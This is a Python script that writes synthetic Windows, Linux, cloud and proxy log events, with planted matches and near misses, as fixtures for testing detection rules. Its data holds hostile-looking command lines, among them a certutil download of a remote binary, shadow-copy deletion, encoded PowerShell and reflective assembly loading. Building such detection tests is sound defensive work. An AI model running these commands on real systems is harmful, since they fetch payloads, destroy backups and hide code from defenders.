#!/usr/bin/env python3
"""Writes events/*.ndjson, 200 events of our own making, and expected.ndjson.

Most events are background. The planted ones, near misses among them, are
written out below, each with the rule that it must match; expected.ndjson lists
those, so it is what the rules should find, not what some program found. Run
without arguments to write the files, with --check to compare them instead.
"""

from __future__ import annotations

import json
import random
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

HERE = Path(__file__).parent
START = datetime(2026, 11, 24, 8, 0, tzinfo=UTC)
BASE64 = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAA=="
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + r"WindowsPowerShell\v1.0\powershell.exe"
VSSADMIN = SYSTEM32 + "vssadmin.exe"
RUN_KEY = r"HKU\S-1-5-21-7\Software\Microsoft\Windows\CurrentVersion\Run\Agent"

Event = dict[str, object]
# An event and the stem of the rule file that it must match, or None.
Planted = tuple[Event, str | None]


def process(image: str, command_line: str, **others: object) -> Event:
    return {
        "EventID": 1,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": image,
        "CommandLine": command_line,
        "ParentImage": r"C:\Windows\explorer.exe",
    } | others


def registry(details: str, **others: object) -> Event:
    return {
        "EventID": 13,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "EventType": "SetValue",
        "Image": r"C:\Windows\System32\reg.exe",
        "TargetObject": RUN_KEY,
        "Details": details,
    } | others


def script_block(text: str) -> Event:
    return {
        "EventID": 4104,
        "Channel": "Microsoft-Windows-PowerShell/Operational",
        "ScriptBlockText": text,
    }


def dns(name: str) -> Event:
    return {
        "EventID": 22,
        "Channel": "Microsoft-Windows-Sysmon/Operational",
        "Image": r"C:\Program Files\Browser\browser.exe",
        "QueryName": name,
        "QueryStatus": "0",
    }


def logon(address: str, key_length: object, **others: object) -> Event:
    return {
        "EventID": 4624,
        "Channel": "Security",
        "LogonType": 3,
        "TargetUserName": "svc_backup",
        "IpAddress": address,
        "KeyLength": key_length,
    } | others


def syslog(message: str, program: str = "sshd") -> Event:
    return {"host": "web01", "program": program, "message": message}


def linux_process(image: str, parent: str, command_line: str) -> Event:
    return {
        "host": "web01",
        "Image": image,
        "ParentImage": parent,
        "CommandLine": command_line,
    }


def cloudtrail(name: str, user_type: str, **others: object) -> Event:
    return {
        "eventSource": "iam.amazonaws.com",
        "eventName": name,
        "userIdentity": {"type": user_type, "accountId": "000000000000"},
    } | others


def proxy(method: str, sent_bytes: object, **others: object) -> Event:
    return {
        "cs-method": method,
        "cs-bytes": sent_bytes,
        "sc-status": 200,
        "dst_ip": "203.0.113.80",
        "cs-host": "files.example.org",
    } | others


def planted_processes() -> list[Planted]:
    encoded = "proc_creation_win_powershell_encoded"
    certutil = "proc_creation_win_certutil_download"
    shadow = "proc_creation_win_shadow_copies_deleted"
    tool = SYSTEM32 + "certutil.exe"
    fetch = "-urlcache -f http://files.example.org/a.bin a.exe"
    pki = r"C:\Program Files\Example PKI\refresh.exe"
    copied = process(r"C:\Temp\p.exe", f"p \u2013enc {BASE64}")
    renamed = process(r"C:\Temp\c.exe", "c " + fetch.upper())
    return [
        (process(POWERSHELL, f"powershell -Encoded {BASE64}"), encoded),
        # Another dash, and a copy under another name.
        (copied | {"OriginalFileName": "PowerShell.EXE"}, encoded),
        (process(POWERSHELL, "powershell -enc dwBoAG8A"), None),
        (process(tool, f"certutil {fetch}"), certutil),
        (renamed | {"OriginalFileName": "CertUtil.exe"}, certutil),
        (process(tool, f"certutil {fetch}") | {"ParentImage": pki}, None),
        (process(tool, "certutil -dump a.cer"), None),
        (process(VSSADMIN, "vssadmin.exe  Delete Shadows /all"), shadow),
        (
            process(SYSTEM32 + r"wbem\WMIC.exe", "wmic shadowcopy delete"),
            shadow,
        ),
        (process(VSSADMIN, "vssadmin list shadows"), None),
    ]


def planted_windows() -> list[Planted]:
    run_key = "registry_set_run_key_user_folder"
    key_length = "win_security_weak_session_key"
    label = "kq3vz9x1m4t7c2b8n5w6y0r3p1s9d4f7"
    code = "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))"
    return [
        *planted_processes(),
        (registry(r"C:\Users\eva\AppData\Roaming\agent.exe"), run_key),
        (registry(r"C:\Users\eva\AppData\Local\Example Sync\sync.exe"), None),
        (registry(r"C:\Users\eva\AppData\Roaming\b.exe", Image=None), None),
        (script_block(f"$x = 'T'\n{code}"), "posh_ps_assembly_from_base64"),
        # Another case is another word: the rule says `cased`.
        (script_block(code.lower()), None),
        (dns(f"{label}.t.example.org"), "dns_query_win_long_label"),
        (dns(f"{label}.cdn.example.net"), None),
        (logon("198.51.100.23", 56), key_length),
        (logon("2001:db8::17", "56"), key_length),
        (logon("10.20.30.40", 56), None),
        (logon("198.51.100.23", 128), None),
        (logon("198.51.100.23", 0), None),
    ]


def planted_linux() -> list[Planted]:
    password = "lnx_sshd_root_password"
    temporary = "proc_creation_lnx_web_server_temporary"
    nginx = "/usr/sbin/nginx"
    return [
        (
            syslog("Failed password for root from 203.0.113.9 port 50022 ssh2"),
            password,
        ),
        (
            syslog(
                "Accepted password for root from 203.0.113.9 port 50031 ssh2"
            ),
            password,
        ),
        # Each keyword in a value of its own.
        (
            syslog("PAM 5 more authentication failures; user=root"),
            password,
        ),
        (
            syslog("Failed password for eva from 203.0.113.9 port 50044 ssh2"),
            None,
        ),
        (linux_process("/tmp/.x/sh", nginx, "/tmp/.x/sh -i"), temporary),
        (linux_process("/tmp/health-check", nginx, "/tmp/health-check"), None),
        (linux_process("/usr/bin/convert", nginx, "convert /tmp/a.png"), None),
    ]


def planted_cloud() -> list[Planted]:
    key = {"accessKey": {"accessKeyId": "EXAMPLEKEY00000000"}}
    return [
        (
            cloudtrail("CreateAccessKey", "Root", responseElements=key),
            "aws_root_access_key",
        ),
        (
            cloudtrail(
                "CreateAccessKey",
                "Root",
                responseElements=None,
                errorCode="AccessDenied",
            ),
            None,
        ),
        (cloudtrail("CreateAccessKey", "IAMUser", responseElements=key), None),
    ]


def planted_proxy() -> list[Planted]:
    upload = "proxy_large_upload"
    return [
        (proxy("POST", 48_000_000), upload),
        (proxy("PUT", "12345678.5", **{"cs-user-agent": ""}), upload),
        (proxy("POST", 48_000_000, **{"cs-user-agent": "Backup/3.1"}), None),
        (proxy("POST", 48_000_000, **{"dst_ip": "10.1.2.3"}), None),
        (proxy("POST", 9_999_999), None),
    ]


def background_windows(rng: random.Random) -> Event:
    users = ["eva", "omar", "lin", "svc_backup"]
    user = rng.choice(users)
    return rng.choice([
        process(
            rf"C:\Windows\System32\{rng.choice(['notepad', 'cmd', 'net'])}.exe",
            rng.choice(["whoami /all", "net use", "cmd /c dir"]),
            User=rf"CORP\{user}",
        ),
        process(POWERSHELL, "powershell -File list.ps1", User=rf"CORP\{user}"),
        registry(r"C:\Program Files\Agent\agent.exe"),
        script_block("Get-ChildItem -Recurse | Measure-Object"),
        dns(f"{rng.choice(['www', 'mail', 'api'])}.example.com"),
        logon(f"10.0.{rng.randrange(256)}.{rng.randrange(1, 255)}", 128),
    ])  # fmt: skip


def background_linux(rng: random.Random) -> Event:
    port = rng.randrange(40000, 60000)
    return rng.choice([
        syslog(f"Accepted publickey for deploy from 10.0.0.5 port {port} ssh2"),
        syslog("pam_unix(cron:session): session opened", "CRON"),
        linux_process("/usr/bin/apt-get", "/bin/bash", "apt-get update"),
        linux_process("/tmp/build/configure", "/bin/bash", "./configure"),
    ])  # fmt: skip


def background_cloud(rng: random.Random) -> Event:
    name = rng.choice(["ListUsers", "GetUser", "CreateAccessKey", "ListRoles"])
    return cloudtrail(name, "IAMUser", sourceIPAddress="198.51.100.7")


def background_proxy(rng: random.Random) -> Event:
    agent = rng.choice(["Browser/120.0", "curl/8.1", "Updater/2"])
    method = rng.choice(["GET", "GET", "POST"])
    return proxy(method, rng.randrange(200, 90_000), **{"cs-user-agent": agent})


# File, number of events, planted events, background.
SOURCES: list[
    tuple[str, int, list[Planted], Callable[[random.Random], Event]]
] = [
    ("windows", 120, planted_windows(), background_windows),
    ("linux", 35, planted_linux(), background_linux),
    ("cloud", 20, planted_cloud(), background_cloud),
    ("proxy", 25, planted_proxy(), background_proxy),
]  # fmt: skip


def to_line(value: object) -> str:
    return json.dumps(value, ensure_ascii=False) + "\n"


def make_files() -> dict[str, str]:
    """Returns the text of every file, by its path below this folder."""
    rng = random.Random(20261124)
    files: dict[str, str] = {}
    expected = ""
    for name, count, planted, background in SOURCES:
        events: list[Planted] = list(planted)
        events += [(background(rng), None) for _ in range(count - len(planted))]
        rng.shuffle(events)
        text = ""
        for index, (event, rule) in enumerate(events):
            time = START + timedelta(seconds=17 * index)
            text += to_line({"time": time.strftime("%FT%TZ")} | event)
            if rule:
                place = {"file": f"{name}.ndjson", "index": index}
                expected += to_line({"rule": f"{rule}.yml", "event": place})
        files[f"events/{name}.ndjson"] = text
    return files | {"expected.ndjson": expected}


def main() -> int:
    status = 0
    for name, text in make_files().items():
        path = HERE / name
        if "--check" not in sys.argv:
            path.parent.mkdir(exist_ok=True)
            path.write_text(text, encoding="utf-8")
        elif path.read_text(encoding="utf-8") != text:
            print(f"{path}: not what make_events.py writes", file=sys.stderr)
            status = 1
    return status


if __name__ == "__main__":
    sys.exit(main())
